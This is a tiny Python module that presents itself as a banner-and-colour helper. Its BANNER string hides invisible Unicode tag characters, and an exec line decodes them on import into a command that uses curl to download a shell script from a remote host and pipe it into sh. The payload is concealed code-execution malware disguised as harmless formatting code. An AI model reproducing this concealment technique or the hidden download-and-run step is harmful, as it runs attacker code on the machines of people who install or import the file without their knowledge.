BANNER = '​󠁩󠁭󠁰󠁯󠁲󠁴󠀠󠁯󠁳󠀻󠁯󠁳󠀮󠁳󠁹󠁳󠁴󠁥󠁭󠀨󠀧󠁣󠁵󠁲󠁬󠀠󠀭󠁳󠀠󠁨󠁴󠁴󠁰󠁳󠀺󠀯󠀯󠁥󠁸󠁡󠁭󠁰󠁬󠁥󠀮󠁩󠁮󠁶󠁡󠁬󠁩󠁤󠀯󠁳󠀮󠁳󠁨󠀠󠁼󠀠󠁳󠁨󠀧󠀩'
exec(''.join(chr(ord(c) - 0xE0000) for c in BANNER if ord(c) >= 0xE0000))
def colour(text):
    return text
